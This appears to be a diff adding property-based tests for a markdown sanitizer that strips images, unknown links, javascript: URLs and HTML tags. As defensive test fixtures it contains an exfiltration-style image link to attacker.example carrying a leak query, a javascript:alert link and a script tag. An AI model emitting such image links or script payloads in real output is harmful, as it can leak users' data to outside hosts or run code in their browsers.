@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import fc from 'fast-check';
+import { withSafeLinks } from './safe-links.ts';
+
+const safe = (text: string) => withSafeLinks(text, (address) => address === 'https://known.example/a');
+
+test('of images and of links to unknown addresses only the text stays', () => {
+  assert.equal(safe('See ![stats](http://attacker.example/leak?q=1).'), 'See stats.');
+  assert.equal(safe('See [here](javascript:alert(1)) and [there][ref].'), 'See here) and [there][ref].');
+  assert.equal(safe('[ref]: http://attacker.example'), '');
+  assert.equal(safe('See [the page](https://known.example/a).'), 'See [the page](https://known.example/a).');
+  assert.equal(safe('Paid in 14 days [1](https://known.example/a).'), 'Paid in 14 days 1.');
+});
+
+test('tags are opened nowhere but in code', () => {
+  assert.equal(safe('<script>x</script> <img src=a> a < b'), '< script>x< /script> < img src=a> a < b');
+  assert.equal(safe('Write `<b>` and `![x](y)`.'), 'Write `<b>` and `![x](y)`.');
+});
+
+test('no image and no tag comes about from the pieces of others', () => {
+  const piece = fc.constantFrom(
+    '!',
+    '[',
+    ']',
+    '(',
+    ')',
+    '<',
+    'a',
+    '/',
+    'http://x.example',
+    '![a](',
+    '\n',
+    ' ',
+    '<!--',
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
+      assert.doesNotMatch(safe(pieces.join('')), /!\[[^\]\n]*\]\([^)\n]|<[a-z/!]/i);
+    }),
+    { numRuns: 2_000 },
+  );
+});
